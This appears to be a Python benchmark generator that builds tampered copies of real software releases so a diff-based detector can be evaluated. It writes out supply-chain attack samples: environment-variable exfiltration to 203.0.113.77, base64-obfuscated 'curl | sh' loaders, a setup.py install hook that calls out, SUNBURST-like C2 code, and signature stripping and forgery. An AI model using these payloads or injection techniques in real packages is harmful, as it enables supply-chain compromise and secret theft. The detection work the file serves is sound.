"""Trojanized variants of real releases, one per technique, for bench/diff_eval.py.

Each generator takes real files (a benign release pair's new artifact, or members of it) and writes a
tampered copy under bench/out/. Binary edits use LIEF or byte patches; package edits rewrite the
archive. The output is inert: nothing here is run, imported or installed.
"""

from __future__ import annotations

import base64
import io
import json
import random
import re
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from demo.techniques import add_loader, fake_payload, sigflip_inject

URL_BYTES = b"\x00https://203.0.113.77/api/v2/telemetry\x00update-cdn-sync.net\x00"


# ----------------------------------------------------------------------------- archives

def rewrite_zip(src: Path, dst: Path, edit: Callable[[str, bytes], bytes | None], add: dict[str, bytes] | None = None,
                rename: Callable[[str], str] | None = None) -> None:
    """Copy a zip, passing each member through ``edit`` (None drops it), then adding ``add``."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.is_dir():
                continue
            data = edit(info.filename, zin.read(info))
            if data is not None:
                zout.writestr(rename(info.filename) if rename else info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)


def rewrite_tgz(src: Path, dst: Path, edit: Callable[[str, bytes], bytes | None],
                add: dict[str, bytes] | None = None) -> None:
    with tarfile.open(src, "r:gz") as tin, tarfile.open(dst, "w:gz") as tout:
        for m in tin.getmembers():
            if not m.isfile():
                continue
            fh = tin.extractfile(m)
            data = edit(m.name, fh.read() if fh else b"")
            if data is None:
                continue
            info = tarfile.TarInfo(m.name)
            info.size, info.mode, info.mtime = len(data), m.mode, m.mtime
            tout.addfile(info, io.BytesIO(data))
        for name, data in (add or {}).items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            tout.addfile(info, io.BytesIO(data))


def zip_member(src: Path, pattern: str) -> tuple[str, bytes]:
    with zipfile.ZipFile(src) as zf:
        name = next(n for n in zf.namelist() if re.search(pattern, n))
        return name, zf.read(name)


# ----------------------------------------------------------------------------- PE

def pe_loader(data: bytes, tmp: Path) -> bytes:
    (tmp / "in.dll").write_bytes(data)
    add_loader(tmp / "in.dll", tmp / "out.dll")
    return (tmp / "out.dll").read_bytes()


def pe_injection_imports(data: bytes, tmp: Path) -> bytes:
    (tmp / "in.dll").write_bytes(data)
    add_loader(tmp / "in.dll", tmp / "out.dll", imports=("WriteProcessMemory", "CreateRemoteThread", "VirtualAllocEx",
                                                         "OpenProcess"), move_entry=False, section_name=".rdata2")
    return (tmp / "out.dll").read_bytes()


def pe_network_section(data: bytes, tmp: Path) -> bytes:
    """A new read-only data section holding a C2 URL and domain (no new code)."""
    import lief

    (tmp / "in.dll").write_bytes(data)
    binary = lief.PE.parse(str(tmp / "in.dll"))
    section = lief.PE.Section(".cfg")
    section.content = list(URL_BYTES * 4 + b"\x00" * 256)
    section.characteristics = 0x40000040  # INITIALIZED_DATA | READ
    binary.add_section(section)
    binary.write(str(tmp / "out.dll"))
    return (tmp / "out.dll").read_bytes()


def pe_sigflip(data: bytes, tmp: Path) -> bytes:
    return sigflip_inject(data, fake_payload())


def _security_dir(data: bytes) -> int:
    e_lfanew = struct.unpack_from("<I", data, 0x3C)[0]
    magic = struct.unpack_from("<H", data, e_lfanew + 24)[0]
    return e_lfanew + 24 + (96 if magic == 0x10B else 112) + 32


def pe_break_signature(data: bytes, tmp: Path) -> bytes:
    """Patch code bytes after signing (a tampered signed file): the Authenticode digest no longer matches."""
    import pefile

    pe = pefile.PE(data=data, fast_load=True)
    text = next(s for s in pe.sections if s.Characteristics & 0x20000000)
    off = text.PointerToRawData + 0x200
    pe.close()
    out = bytearray(data)
    out[off:off + 6] = bytes.fromhex("E9DEADBEEF90")
    return bytes(out)


def pe_strip_signature(data: bytes, tmp: Path) -> bytes:
    sec = _security_dir(data)
    off, _size = struct.unpack_from("<II", data, sec)
    out = bytearray(data[:off] if off else data)
    struct.pack_into("<II", out, sec, 0, 0)
    return bytes(out)


def pe_backdate(data: bytes, tmp: Path, when: int) -> bytes:
    e_lfanew = struct.unpack_from("<I", data, 0x3C)[0]
    out = bytearray(data)
    struct.pack_into("<I", out, e_lfanew + 8, when)
    return bytes(out)


def pe_timestamp(data: bytes) -> int:
    e_lfanew = struct.unpack_from("<I", data, 0x3C)[0]
    return struct.unpack_from("<I", data, e_lfanew + 8)[0]


# ----------------------------------------------------------------------------- ELF / Mach-O

def elf_add_needed(data: bytes, tmp: Path) -> bytes:
    import lief

    (tmp / "in.so").write_bytes(data)
    binary = lief.ELF.parse(str(tmp / "in.so"))
    binary.add_library("libcurl.so.4")
    binary.write(str(tmp / "out.so"))
    return (tmp / "out.so").read_bytes()


def elf_add_exec_section(data: bytes, tmp: Path) -> bytes:
    import lief

    (tmp / "in.so").write_bytes(data)
    binary = lief.ELF.parse(str(tmp / "in.so"))
    section = lief.ELF.Section(".text.hook")
    section.content = list(bytes.fromhex("4883EC08") + b"\x90" * 252)
    section.flags = int(lief.ELF.Section.FLAGS.ALLOC | lief.ELF.Section.FLAGS.EXECINSTR)
    section.type = lief.ELF.Section.TYPE.PROGBITS
    binary.add(section, loaded=True)
    binary.write(str(tmp / "out.so"))
    return (tmp / "out.so").read_bytes()


def elf_extra_constructor(data: bytes, tmp: Path) -> bytes:
    """Grow DT_INIT_ARRAYSZ by one pointer: one more function runs when the library loads."""
    from elftools.elf.elffile import ELFFile

    elf = ELFFile(io.BytesIO(data))
    dyn = elf.get_section_by_name(".dynamic")
    if dyn is None:
        raise ValueError("no .dynamic section")
    out = bytearray(data)
    off = dyn["sh_offset"]
    for i in range(dyn["sh_size"] // 16):
        tag, val = struct.unpack_from("<qQ", out, off + 16 * i)
        if tag == 27:  # DT_INIT_ARRAYSZ
            struct.pack_into("<qQ", out, off + 16 * i, tag, val + 8)
            return bytes(out)
    raise ValueError("no DT_INIT_ARRAYSZ")


def append_indicators(data: bytes, tmp: Path) -> bytes:
    return data + URL_BYTES * 2


def macho_add_dylib(data: bytes, tmp: Path) -> bytes:
    import lief

    (tmp / "in.dylib").write_bytes(data)
    fat = lief.MachO.parse(str(tmp / "in.dylib"))
    binary = fat.at(0)
    binary.add_library("@rpath/libupdate.dylib")
    binary.write(str(tmp / "out.dylib"))
    return (tmp / "out.dylib").read_bytes()


def macho_set_team(data: bytes, team: str) -> bytes:
    """Every code signature of a (thin or fat) Mach-O now names Team ID ``team``: what re-signing by
    another developer account changes in the CodeDirectory. Patched in place, without resizing: the
    team string takes the tail of the signing identifier (which must be long enough), and the
    CodeDirectory's teamOffset points at it. Page hashes and the CMS blob (none, for a linker
    signature) are left alone; nothing checks them statically before this diff."""
    raw = team.encode("ascii") + b"\x00"
    out = bytearray(data)
    patched = 0
    for sig_at, sig_size in _macho_signatures(data):
        count = struct.unpack_from(">I", data, sig_at + 8)[0]
        for i in range(min(count, 32)):
            slot_type, blob_off = struct.unpack_from(">II", data, sig_at + 12 + 8 * i)
            cd = sig_at + blob_off
            if slot_type != 0 and not 0x1000 <= slot_type < 0x1005:  # the CodeDirectory and its alternates
                continue
            magic, length, version = struct.unpack_from(">III", data, cd)
            if magic != 0xFADE0C02 or version < 0x20200 or blob_off + length > sig_size:
                continue
            ident_off = struct.unpack_from(">I", data, cd + 20)[0]
            ident_end = data.index(b"\x00", cd + ident_off)
            if ident_end - (cd + ident_off) < len(raw) + 4:
                raise ValueError("signing identifier too short to make room for a Team ID")
            team_at = ident_end + 1 - len(raw)
            out[team_at - 1] = 0  # the identifier now ends just before the team string
            out[team_at:ident_end + 1] = raw
            struct.pack_into(">I", out, cd + 48, team_at - cd)
            patched += 1
    if not patched:
        raise ValueError("no CodeDirectory with a team field (version >= 0x20200) found")
    return bytes(out)


def _macho_signatures(data: bytes) -> list[tuple[int, int]]:
    """(offset, size) of the code-signature SuperBlob of each slice, from LC_CODE_SIGNATURE."""
    magic = struct.unpack_from(">I", data, 0)[0]
    if magic in (0xCAFEBABE, 0xCAFEBABF):  # fat: slices at big-endian offsets
        wide = magic == 0xCAFEBABF
        count = struct.unpack_from(">I", data, 4)[0]
        step = 32 if wide else 20
        slices = []
        for i in range(count):
            at = 8 + i * step
            offset = struct.unpack_from(">Q" if wide else ">I", data, at + 8)[0]
            slices.append(offset)
    else:
        slices = [0]
    found = []
    for base in slices:
        head = struct.unpack_from("<I", data, base)[0]
        if head not in (0xFEEDFACE, 0xFEEDFACF):
            continue
        ncmds = struct.unpack_from("<I", data, base + 16)[0]
        at = base + (32 if head == 0xFEEDFACF else 28)
        for _ in range(ncmds):
            cmd, size = struct.unpack_from("<II", data, at)
            if cmd == 0x1D:  # LC_CODE_SIGNATURE: dataoff, datasize (relative to the slice)
                dataoff, datasize = struct.unpack_from("<II", data, at + 8)
                found.append((base + dataoff, datasize))
            at += size
    return found


# ----------------------------------------------------------------------------- packages

PY_EXFIL = b'''import json, os, urllib.request

def _report():
    data = json.dumps(dict(os.environ)).encode()
    req = urllib.request.Request("https://203.0.113.77/collect", data=data, method="POST")
    urllib.request.urlopen(req, timeout=3)

_report()
'''
JS_EXFIL = b'''const https = require("https");
const body = JSON.stringify(process.env);
const req = https.request({ hostname: "203.0.113.77", path: "/collect", method: "POST" });
req.write(body);
req.end();
'''


def py_obfuscated() -> bytes:
    inner = b"import os,urllib.request;urllib.request.urlopen('https://203.0.113.77/p?'+os.getenv('USER',''))"
    blob = base64.b64encode(inner).decode()
    return f"import base64\nexec(base64.b64decode('{blob}'))\n".encode()


def js_obfuscated() -> bytes:
    rnd = random.Random(5)
    names = ["_0x" + "".join(rnd.choice("0123456789abcdef") for _ in range(4)) for _ in range(40)]
    table = ",".join(f"'\\x{rnd.randrange(256):02x}\\x{rnd.randrange(256):02x}'" for _ in range(600))
    body = ";".join(f"var {n}={names[(i * 7) % 40]}||{i}" for i, n in enumerate(names))
    payload = base64.b64encode(b"require('child_process').exec('curl -s https://203.0.113.77/x | sh')").decode()
    return (f"var _0xtab=[{table}];{body};eval(Buffer.from('{payload}','base64').toString());").encode()


def bump_patch(version: str) -> str:
    parts = version.split(".")
    parts[-1] = str(int(re.match(r"\d+", parts[-1]).group()) + 1) if re.match(r"\d+", parts[-1]) else parts[-1] + "1"
    return ".".join(parts)


def wheel_patch_release(src: Path, dst_dir: Path, extra_requires: str | None = None,
                        add: dict[str, bytes] | None = None) -> Path:
    """A patch release of a wheel (version +1) with an added dependency and/or files."""
    m = re.match(r"^([^-]+)-([^-]+)-(.+)$", src.name)
    assert m, src.name
    name, version, rest = m.groups()
    newv = bump_patch(version)
    dst = dst_dir / f"{name}-{newv}-{rest}"

    def edit(member: str, data: bytes) -> bytes:
        if member.endswith(".dist-info/METADATA"):
            text = data.decode("utf-8", "replace").replace(f"Version: {version}", f"Version: {newv}", 1)
            if extra_requires:
                head, sep, body = text.partition("\n\n")
                text = head + f"\nRequires-Dist: {extra_requires}" + sep + body
            return text.encode()
        return data

    def rename(member: str) -> str:
        return member.replace(f"{name}-{version}.dist-info", f"{name}-{newv}.dist-info")

    rewrite_zip(src, dst, edit, add, rename)
    return dst


def npm_patch_release(src: Path, dst_dir: Path, package_edit: Callable[[dict], None] | None = None,
                      add: dict[str, bytes] | None = None, main_append: bytes | None = None) -> Path:
    with tarfile.open(src, "r:gz") as tin:
        pkg = json.loads(tin.extractfile("package/package.json").read())  # type: ignore[union-attr]
    newv = bump_patch(pkg["version"])
    main = (pkg.get("main") or "index.js").lstrip("./")
    dst = dst_dir / f"{pkg['name'].replace('/', '-')}-{newv}.tgz"

    def edit(member: str, data: bytes) -> bytes:
        if member == "package/package.json":
            doc = json.loads(data)
            doc["version"] = newv
            if package_edit:
                package_edit(doc)
            return (json.dumps(doc, indent=2) + "\n").encode()
        if main_append and member in (f"package/{main}", f"package/{main}.js"):
            return data + b"\n" + main_append
        return data

    rewrite_tgz(src, dst, edit, add)
    return dst


def sdist_cmdclass(src: Path, dst_dir: Path) -> Path:
    """The sdist with setup.py overriding `install` to run code (a patch release)."""
    m = re.match(r"^(.+)-(\d[^-]*)\.tar\.gz$", src.name)
    assert m
    name, version = m.groups()
    newv = bump_patch(version)
    dst = dst_dir / f"{name}-{newv}.tar.gz"
    hook = (b"\nfrom setuptools.command.install import install as _install\n\n"
            b"class _PostInstall(_install):\n    def run(self):\n        import os, urllib.request\n"
            b"        urllib.request.urlopen('https://203.0.113.77/i?h=' + os.uname()[1])\n"
            b"        _install.run(self)\n\n")

    def edit(member: str, data: bytes) -> bytes:
        if member.endswith("/setup.py") and member.count("/") == 1:
            text = data.replace(b"setup(", hook + b"setup(cmdclass={'install': _PostInstall}, ", 1) \
                if b"setup(" in data else data + hook
            return text
        if member.endswith("/PKG-INFO") and member.count("/") == 1:
            return data.replace(f"Version: {version}".encode(), f"Version: {newv}".encode(), 1)
        return data

    with tarfile.open(src, "r:gz") as tin, tarfile.open(dst, "w:gz") as tout:
        for mem in tin.getmembers():
            if not mem.isfile():
                continue
            fh = tin.extractfile(mem)
            data = edit(mem.name, fh.read() if fh else b"")
            info = tarfile.TarInfo(mem.name.replace(f"{name}-{version}/", f"{name}-{newv}/", 1))
            info.size, info.mode, info.mtime = len(data), mem.mode, mem.mtime
            tout.addfile(info, io.BytesIO(data))
    return dst


# ------------------------------------------------------------------ .NET (SUNBURST-like)

DOTNET_V1 = """using System.Reflection;
[assembly: AssemblyVersion("2019.4.5200.9083")]
[assembly: AssemblyFileVersion("2019.4.5200.9083")]
[assembly: AssemblyProduct("Vendor Core")]
namespace Vendor.Core.BusinessLayer {
  public class Poller { public int Interval = 60; public string Name() { return "poller"; } }
  public class Settings { public string Get(string k) { return k.ToUpper(); } }
}
"""

# the same assembly with one internal class added that resolves a C2 name and starts a shell on a thread
DOTNET_V2 = DOTNET_V1.rstrip().removesuffix("}") + """  internal class ImprovementBusinessLayer {
    static string host = "avsvmcloud.com";
    public static void Initialize() {
      var t = new System.Threading.Thread(() => {
        System.Net.Dns.GetHostEntry("x." + host);
        System.Diagnostics.Process.Start("cmd.exe", "/c whoami");
      });
      t.Start();
    }
  }
}
"""


def dotnet_release_pair(out: Path, tmp: Path) -> tuple[Path, Path]:
    """Two releases of a .NET library compiled now by mono's C# compiler (``mcs``, Debian ``mono-mcs``):
    the second adds a type and keeps the assembly and file versions, as SUNBURST did in
    SolarWinds.Orion.Core.BusinessLayer.dll. Raises RuntimeError when mcs is not installed."""
    import shutil
    import subprocess

    mcs = shutil.which("mcs")
    if mcs is None:
        raise RuntimeError("needs mono's C# compiler: apt-get install mono-mcs")
    releases = []
    for tag, source in (("old", DOTNET_V1), ("new", DOTNET_V2)):
        src = tmp / f"{tag}.cs"
        dll = tmp / f"{tag}.dll"
        src.write_text(source)
        subprocess.run([mcs, "-target:library", f"-out:{dll}", str(src)], check=True, capture_output=True)
        release = out / f"vendor-core-2019.4-{tag}.zip"
        with zipfile.ZipFile(release, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr("VendorCore/Vendor.Core.BusinessLayer.dll", dll.read_bytes())
            zf.writestr("VendorCore/README.txt", "Vendor Core 2019.4 HF5\n")
        releases.append(release)
    return releases[0], releases[1]
